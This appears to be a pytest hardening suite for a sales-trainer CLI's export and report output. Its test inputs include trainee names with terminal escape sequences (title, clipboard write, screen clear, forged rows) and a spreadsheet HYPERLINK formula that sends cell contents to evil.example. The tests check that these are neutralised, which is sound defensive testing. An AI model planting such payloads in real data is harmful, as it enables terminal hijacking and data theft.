"""Where output goes and how a team lead's terminal sees it (reliability findings B1, B3, B4,
B19, B22, B27). Device nodes are made only inside a private mount namespace on a tmpfs, never
in the real /dev."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from .test_hardening_cli import cli, no_traceback

REPLIES = "Hi Mike, this is Sam from NordParts. Do you have two minutes?\n"


def _saved(tmp_path: Path, trainee: str) -> str:
    (tmp_path / "replies.txt").write_text(REPLIES, encoding="utf-8")
    db = str(tmp_path / "team.db")
    result = cli(
        tmp_path,
        "--db",
        db,
        "play",
        "cold-call-car-parts",
        "--script",
        "replies.txt",
        "--save",
        "--trainee",
        trainee,
    )
    assert result.returncode == 0, result.stderr.decode()
    return db


# -- B1 and B19: one output path ---------------------------------------------------------------


@pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("unshare") is None or shutil.which("mknod") is None,
    reason="needs root and unshare to make a device node in a private mount namespace",
)
def test_b1_export_writes_through_a_device_and_never_replaces_it(tmp_path: Path) -> None:
    db = _saved(tmp_path, "Sam")
    ns = tmp_path / "ns"
    ns.mkdir()
    script = (
        f"mount -t tmpfs none {ns} && mknod -m 666 {ns}/null c 1 3 && "
        f"{sys.executable} -m trainer --db {db} export -o {ns}/null && "
        f"stat -c %F {ns}/null"
    )
    result = subprocess.run(
        ["unshare", "-m", "sh", "-c", script], capture_output=True, timeout=120, cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.decode().strip().endswith("character special file")


def test_b1_export_follows_a_symlink_and_keeps_it(tmp_path: Path) -> None:
    db = _saved(tmp_path, "Sam")
    real = tmp_path / "real.jsonl"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    result = cli(tmp_path, "--db", db, "export", "-o", "link.jsonl")
    assert result.returncode == 0, result.stderr.decode()
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("{")


def test_b1_export_writes_through_a_pipe(tmp_path: Path) -> None:
    db = _saved(tmp_path, "Sam")
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = cli(tmp_path, "--db", db, "export", "-o", "out.fifo")
    reader.join(timeout=30)
    assert result.returncode == 0, result.stderr.decode()
    assert received and received[0].startswith(b"{")
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_b19_export_to_a_folder_or_an_empty_name_is_a_clear_error(tmp_path: Path) -> None:
    db = _saved(tmp_path, "Sam")
    (tmp_path / "adir").mkdir()
    for target in ("adir", "", "missing/out.jsonl"):
        result = cli(tmp_path, "--db", db, "export", "-o", target)
        assert result.returncode != 0 and result.stderr.startswith(b"sales-trainer:"), target
        no_traceback(result)
    assert list((tmp_path / "adir").iterdir()) == []


def test_b19_a_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
    from trainer.cli.output import open_output
    from trainer.diagnostics import TrainerError

    target = tmp_path / "out.jsonl"
    target.write_text("keep me\n", encoding="utf-8")
    with pytest.raises(TrainerError), open_output(target) as handle:
        handle.write("half")
        raise OSError(28, "No space left on device")
    assert target.read_text(encoding="utf-8") == "keep me\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


# -- B3 and B4: names a team lead's terminal and spreadsheet see --------------------------


def test_b3_escape_sequences_and_newlines_in_names_reach_no_terminal(tmp_path: Path) -> None:
    evil = "\x1b]0;PWNED\x07\x1b]52;c;aGk=\x07\x1b[2JEvil\nfake-row 9 0 100"
    db = _saved(tmp_path, evil)
    for fmt in ("table", "csv", "json"):
        result = cli(tmp_path, "--db", db, "report", "--format", fmt)
        assert result.returncode == 0, result.stderr.decode()
        assert b"\x1b" not in result.stdout and b"\x07" not in result.stdout, fmt
        if fmt == "table":
            assert b"\nfake-row" not in result.stdout


def test_b4_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    db = _saved(tmp_path, '=HYPERLINK("http://evil.example/?"&A1,"x")')
    result = cli(tmp_path, "--db", db, "report", "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.stdout.decode())))
    names = [row[0] for row in rows[1:]]
    assert names and all(not n.startswith(("=", "+", "-", "@")) for n in names)


# -- B22 and B27: database names -----------------------------------------------------------


@pytest.mark.parametrize("url", ["postgresql://u:pw@127.0.0.1:abc/st", "postgresql://u:pw@[::1/st"])
def test_b22_a_bad_port_is_a_clear_error(tmp_path: Path, url: str) -> None:
    result = cli(tmp_path, "--db", url, "report")
    assert result.returncode == 2 and b"not a database URL" in result.stderr
    assert b"pw" not in result.stderr
    no_traceback(result)


def test_b27_a_device_is_not_a_database_and_gets_no_journal(tmp_path: Path) -> None:
    # /dev/null is only looked at (stat), never opened for writing.
    result = cli(tmp_path, "--db", "/dev/null", "report")
    assert result.returncode == 2 and b"device or a pipe" in result.stderr
    assert not Path("/dev/null-journal").exists()
